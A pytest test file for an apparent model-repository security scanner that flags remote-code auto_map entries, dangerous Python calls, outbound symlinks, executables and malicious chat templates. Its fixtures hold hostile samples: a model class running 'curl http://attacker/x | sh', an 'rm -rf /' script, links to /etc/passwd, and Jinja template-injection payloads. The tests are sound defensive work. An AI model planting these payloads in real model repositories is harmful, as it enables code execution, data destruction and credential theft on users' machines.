"""Repository-level checks on generated Hugging Face-style folders."""

from __future__ import annotations

import json
import os
import tempfile
from pathlib import Path
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st

from weighbridge.core.findings import Finding, Severity
from weighbridge.core.report import FileRecord, Snapshot, SnapshotFile, Target, TargetKind
from weighbridge.formats.repository import analyse_python, check_repository


def _snapshot(root: Path, kind: TargetKind = TargetKind.FOLDER) -> Snapshot:
    files = []
    for dirpath, dirnames, filenames in os.walk(root, followlinks=False):
        names = filenames + [d for d in dirnames if os.path.islink(os.path.join(dirpath, d))]
        for name in names:
            full = os.path.join(dirpath, name)
            if os.path.islink(full) and os.path.isdir(full):
                for inner in os.listdir(full):
                    files.append(
                        SnapshotFile(
                            rel=os.path.relpath(os.path.join(full, inner), root).replace(os.sep, "/"),
                            abspath=os.path.join(full, inner),
                        )
                    )
                continue
            files.append(SnapshotFile(rel=os.path.relpath(full, root).replace(os.sep, "/"), abspath=full))
    target = Target(input=str(root), kind=kind, path=str(root))
    return Snapshot(target=target, root=str(root), files=tuple(sorted(files, key=lambda f: f.rel)))


def _check(root: Path, kind: TargetKind = TargetKind.FOLDER) -> list[Finding]:
    snap = _snapshot(root, kind)
    records = [
        FileRecord(
            path=f.rel,
            size=os.stat(f.abspath).st_size if os.path.exists(f.abspath) else 0,
            sha256=None,
            format="x",
        )
        for f in snap.files
    ]
    return check_repository(snap, records)


def _by_rule(findings: list[Finding]) -> dict[str, list[Finding]]:
    out: dict[str, list[Finding]] = {}
    for f in findings:
        out.setdefault(f.rule, []).append(f)
    return out


def _write_json(path: Path, data: Any) -> None:
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_text(json.dumps(data, indent=2))


def _benign(root: Path) -> Path:
    _write_json(root / "config.json", {"architectures": ["LlamaForCausalLM"], "model_type": "llama"})
    _write_json(root / "generation_config.json", {"max_new_tokens": 20})
    _write_json(
        root / "tokenizer_config.json",
        {
            "bos_token": "<s>",
            "chat_template": "{% for m in messages %}{{ m['role'] }}: {{ m['content'] }}\n{% endfor %}",
        },
    )
    _write_json(root / "special_tokens_map.json", {"bos_token": "<s>"})
    (root / "tokenizer.json").write_text('{"version": "1.0", "model": {"type": "BPE"}}')
    (root / "model.safetensors").write_bytes(b"\x08\x00\x00\x00\x00\x00\x00\x00{}      ")
    (root / "README.md").write_text("# model\n")
    return root


MODELING = """import os
import torch
from .configuration_evil import EvilConfig


class EvilModel(torch.nn.Module):
    def __init__(self, config):
        super().__init__()
        os.system("curl http://attacker/x | sh")
"""


def test_benign_folder_is_clean(tmp_path: Path) -> None:
    assert _check(_benign(tmp_path)) == []


def test_auto_map_and_modeling_file_with_os_system(tmp_path: Path) -> None:
    _benign(tmp_path)
    _write_json(
        tmp_path / "config.json",
        {
            "model_type": "evil",
            "auto_map": {
                "AutoConfig": "configuration_evil.EvilConfig",
                "AutoModelForCausalLM": "modeling_evil.EvilModel",
            },
        },
    )
    (tmp_path / "modeling_evil.py").write_text(MODELING)
    (tmp_path / "configuration_evil.py").write_text("class EvilConfig:\n    pass\n")
    (tmp_path / "helper.py").write_text("x = 1\n")
    found = _by_rule(_check(tmp_path))
    remote = found["WB-REPO-001"][0]
    assert remote.severity is Severity.HIGH and remote.path == "config.json"
    assert "modeling_evil.py" in remote.detail and "configuration_evil.py" in remote.detail
    assert "AutoModelForCausalLM: modeling_evil.EvilModel" in (remote.evidence or "")
    py = {f.path: f.severity for f in found["WB-REPO-003"]}
    assert py == {
        "modeling_evil.py": Severity.HIGH,
        "configuration_evil.py": Severity.HIGH,
        "helper.py": Severity.MEDIUM,
    }
    construct = found["WB-REPO-004"][0]
    assert construct.path == "modeling_evil.py" and construct.location and construct.location.line == 9
    assert 'os.system("curl http://attacker/x | sh")' in (construct.evidence or "")


def test_relative_import_makes_sibling_referenced(tmp_path: Path) -> None:
    _write_json(tmp_path / "config.json", {"auto_map": {"AutoModel": "modeling_a.A"}})
    (tmp_path / "modeling_a.py").write_text("from .utils_a import helper\n")
    (tmp_path / "utils_a.py").write_text("def helper():\n    return 1\n")
    py = {f.path: f.severity for f in _check(tmp_path) if f.rule == "WB-REPO-003"}
    assert py == {"modeling_a.py": Severity.HIGH, "utils_a.py": Severity.HIGH}


def test_cross_repo_auto_map_is_critical(tmp_path: Path) -> None:
    _write_json(
        tmp_path / "tokenizer_config.json",
        {"auto_map": {"AutoTokenizer": ["other-org/code--tokenization_x.XTokenizer", None]}},
    )
    found = _by_rule(_check(tmp_path))
    assert found["WB-REPO-002"][0].severity is Severity.CRITICAL
    assert "other-org/code" in found["WB-REPO-002"][0].detail
    assert "WB-REPO-001" not in found


def test_custom_pipelines_diffusers_and_sentence_transformers(tmp_path: Path) -> None:
    _write_json(tmp_path / "config.json", {"custom_pipelines": {"my-task": {"impl": "pipe.MyPipeline"}}})
    (tmp_path / "pipe.py").write_text("class MyPipeline: pass\n")
    _write_json(
        tmp_path / "sd" / "model_index.json",
        {
            "_class_name": ["pipeline_custom", "P"],
            "unet": ["my_unet", "UNet"],
            "vae": ["diffusers", "AutoencoderKL"],
            "text_encoder": ["weird_lib", "Enc"],
        },
    )
    (tmp_path / "sd" / "unet").mkdir()
    (tmp_path / "sd" / "unet" / "my_unet.py").write_text("class UNet: pass\n")
    _write_json(
        tmp_path / "st" / "modules.json",
        [
            {"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"},
            {"idx": 1, "name": "1", "path": "1", "type": "custom_pool.Pooling"},
        ],
    )
    found = _by_rule(_check(tmp_path))
    remote = {f.path: f for f in found["WB-REPO-001"]}
    assert set(remote) == {"config.json", "sd/model_index.json", "st/modules.json"}
    index_findings = [f for f in found["WB-REPO-001"] if f.path == "sd/model_index.json"]
    assert {f.severity for f in index_findings} == {Severity.HIGH, Severity.MEDIUM}
    assert any("sd/unet/my_unet.py" in f.detail for f in index_findings)
    assert "pipe.py" in remote["config.json"].detail
    py = {f.path: f.severity for f in found["WB-REPO-003"]}
    assert py == {"pipe.py": Severity.HIGH, "sd/unet/my_unet.py": Severity.HIGH}


def test_symlinks_hard_links_and_executables(tmp_path: Path) -> None:
    _benign(tmp_path)
    os.symlink("/etc/passwd", tmp_path / "vocab.txt")
    (tmp_path / "inner.txt").write_text("x")
    os.symlink("inner.txt", tmp_path / "alias.txt")  # stays inside: fine
    outside = tmp_path.parent / (tmp_path.name + "_outside")
    outside.mkdir()
    (outside / "data.bin").write_bytes(b"z")
    os.symlink(outside, tmp_path / "linked_dir")
    (tmp_path / "shared.bin").write_bytes(b"y")
    os.link(tmp_path / "shared.bin", outside / "hard.bin")
    (tmp_path / "libcustom.bin").write_bytes(b"\x7fELF\x02\x01\x01" + b"\0" * 57)
    (tmp_path / "run.sh").write_text("#!/bin/sh\nrm -rf /\n")
    os.chmod(tmp_path / "run.sh", 0o755)
    (tmp_path / "notes.sh").write_text("#!/bin/sh\necho hi\n")  # no exec bit: not an executable
    (tmp_path / "ops.dll").write_bytes(b"not really")
    pe = bytearray(b"MZ" + b"\0" * 200)
    pe[0x3C:0x40] = (0x80).to_bytes(4, "little")
    pe[0x80:0x84] = b"PE\0\0"
    (tmp_path / "tool.bin").write_bytes(bytes(pe))
    found = _by_rule(_check(tmp_path))
    links = {f.path: f for f in found["WB-REPO-006"]}
    assert set(links) == {"vocab.txt", "linked_dir"}
    assert links["vocab.txt"].severity is Severity.HIGH and "/etc/passwd" in (
        links["vocab.txt"].evidence or ""
    )
    assert [f.path for f in found["WB-REPO-007"]] == ["shared.bin"]
    assert found["WB-REPO-007"][0].severity is Severity.MEDIUM
    exes = {f.path: f.detail for f in found["WB-REPO-008"]}
    assert set(exes) == {"libcustom.bin", "run.sh", "ops.dll", "tool.bin"}
    assert "ELF" in exes["libcustom.bin"] and "PE" in exes["tool.bin"]


def test_hf_cache_blob_links_are_normal(tmp_path: Path) -> None:
    repo = tmp_path / "models--org--name"
    (repo / "blobs").mkdir(parents=True)
    snap = repo / "snapshots" / "abc"
    snap.mkdir(parents=True)
    (repo / "blobs" / "1234").write_text('{"model_type": "bert"}')
    os.symlink("../../blobs/1234", snap / "config.json")
    os.symlink("/etc/hostname", snap / "evil.txt")
    found = _by_rule(_check(snap, TargetKind.HF))
    assert [f.path for f in found["WB-REPO-006"]] == ["evil.txt"]
    assert _by_rule(_check(snap, TargetKind.FOLDER))["WB-REPO-006"][0].path == "config.json"


def test_invalid_loader_json_is_low(tmp_path: Path) -> None:
    (tmp_path / "config.json").write_text('{"model_type": "llama",,}')
    (tmp_path / "generation_config.json").write_text("[")
    (tmp_path / "other.json").write_text("{not json")  # not a file a loader reads: not reported here
    found = _check(tmp_path)
    assert {(f.rule, f.path, f.severity) for f in found} == {
        ("WB-REPO-009", "config.json", Severity.LOW),
        ("WB-REPO-009", "generation_config.json", Severity.LOW),
    }
    assert next(f for f in found if f.path == "config.json").location.line == 1  # type: ignore[union-attr]


def test_chat_templates_are_checked(tmp_path: Path) -> None:
    evil = "{{ cycler.__init__.__globals__.os.popen('id').read() }}"
    _write_json(
        tmp_path / "tokenizer_config.json",
        {
            "bos_token": "<s>",
            "chat_template": [
                {"name": "default", "template": "{{ messages[0]['content'] }}"},
                {"name": "tool_use", "template": evil},
            ],
        },
    )
    (tmp_path / "chat_template.jinja").write_text("{{ ''.__class__.__mro__[1].__subclasses__() }}")
    _write_json(tmp_path / "chat_template.json", {"chat_template": evil})
    findings = [f for f in _check(tmp_path) if f.check.value == "artifact" or f.rule.startswith("WB-TPL")]
    paths = {f.path for f in findings if f.severity >= Severity.HIGH}
    assert paths == {"tokenizer_config.json", "chat_template.jinja", "chat_template.json"}
    keys = {f.location.key for f in findings if f.path == "tokenizer_config.json" and f.location}
    assert keys == {"chat_template[tool_use]"}


def test_python_analysis_resolves_aliases_and_decoding() -> None:
    source = """import subprocess as sp
from os import system as run_it
import base64
import builtins
sp.Popen(["ls"])
run_it("id")
exec(base64.b64decode("cHJpbnQoMSk="))
getattr(__import__("os"), "system")("id")
builtins.eval("1")
import torch
torch.nn.Linear(2, 2)
"""
    hits = [(h.line, h.construct) for h in analyse_python(source).hits]
    assert (1, "import subprocess") in hits
    assert (5, "subprocess.Popen(…)") in hits
    assert (6, "os.system(…)") in hits
    assert (7, "exec(…) on decoded data") in hits
    assert (8, "getattr(…, 'system')") in hits and (8, "__import__(…)") in hits
    assert (9, "eval(…)") in hits
    assert not [h for h in hits if h[0] >= 10]


def test_unparsable_python_and_bytecode(tmp_path: Path) -> None:
    (tmp_path / "broken.py").write_text("def f(:\n    os.system('id')\n")
    (tmp_path / "__pycache__").mkdir()
    (tmp_path / "__pycache__" / "x.cpython-311.pyc").write_bytes(b"\xa7\r\r\n" + b"\0" * 12)
    found = _by_rule(_check(tmp_path))
    assert {f.path for f in found["WB-REPO-005"]} == {"broken.py", "__pycache__/x.cpython-311.pyc"}
    construct = found["WB-REPO-004"][0]
    assert construct.location and construct.location.line == 2 and "os.system" in (construct.evidence or "")
    assert found["WB-REPO-003"][0].severity is Severity.HIGH


def test_many_hits_are_capped(tmp_path: Path) -> None:
    (tmp_path / "x.py").write_text("import os\n" + "os.system('a')\n" * 50)
    hits = [f for f in _check(tmp_path) if f.rule == "WB-REPO-004"]
    assert len(hits) == 21 and "30 more" in hits[-1].detail


@settings(max_examples=200, deadline=None)
@given(st.text(max_size=400))
def test_arbitrary_python_text_never_escapes(source: str) -> None:
    with tempfile.TemporaryDirectory() as d:
        (Path(d) / "mod.py").write_text(source, encoding="utf-8", errors="surrogateescape")
        found = _by_rule(_check(Path(d)))
    assert [f.path for f in found["WB-REPO-003"]] == ["mod.py"]
    for f in found.get("WB-REPO-004", []):
        assert f.location is not None and f.location.line is not None and f.evidence


@settings(max_examples=60, deadline=None)
@given(
    st.dictionaries(
        st.sampled_from(["auto_map", "chat_template", "custom_pipelines", "model_type"]),
        st.recursive(
            st.none() | st.text(max_size=30) | st.integers(),
            lambda c: st.lists(c, max_size=3) | st.dictionaries(st.text(max_size=8), c, max_size=3),
            max_leaves=8,
        ),
        max_size=4,
    ),
    st.binary(max_size=64),
)
def test_arbitrary_configs_never_escape(config: dict[str, Any], blob: bytes) -> None:
    with tempfile.TemporaryDirectory() as d:
        root = Path(d)
        _write_json(root / "config.json", config)
        _write_json(root / "tokenizer_config.json", config)
        (root / "modules.json").write_bytes(blob)
        (root / "model_index.json").write_text(json.dumps(config))
        for f in _check(root):
            assert f.detail and f.path


def test_through_the_engine(tmp_path: Path) -> None:
    from weighbridge import scan

    _benign(tmp_path)
    _write_json(tmp_path / "config.json", {"auto_map": {"AutoModel": "modeling_evil.EvilModel"}})
    (tmp_path / "modeling_evil.py").write_text(MODELING)
    os.symlink("/etc/passwd", tmp_path / "merges.txt")
    report = scan(str(tmp_path))
    rules = {(f.rule, f.path) for f in report.findings}
    assert {
        ("WB-REPO-001", "config.json"),
        ("WB-REPO-003", "modeling_evil.py"),
        ("WB-REPO-004", "modeling_evil.py"),
        ("WB-REPO-006", "merges.txt"),
    } <= rules
